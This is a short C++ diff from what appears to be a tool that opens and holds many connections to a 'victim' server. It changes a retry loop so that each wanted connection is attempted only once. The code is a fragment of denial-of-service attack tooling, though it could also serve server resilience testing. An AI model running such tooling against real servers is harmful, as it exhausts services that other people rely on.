@@ -30,7 +30,8 @@ std::vector<raw_connection> open_held(const victim_endpoint& victim, clock::time
                                       attack_tally& tally, std::string_view opening) {
     std::vector<raw_connection> held;
     held.reserve(held_connections);
-    while (held.size() < held_connections && clock::now() < until) {
+    // One attempt per connection wanted: a server that refuses them is not asked again and again.
+    for (std::size_t attempt = 0; attempt < held_connections && clock::now() < until; ++attempt) {
         raw_connection c;
         ++tally.connections;
         if (!c.connect(victim.host, victim.port, std::min(until, clock::now() + connect_limit))) {
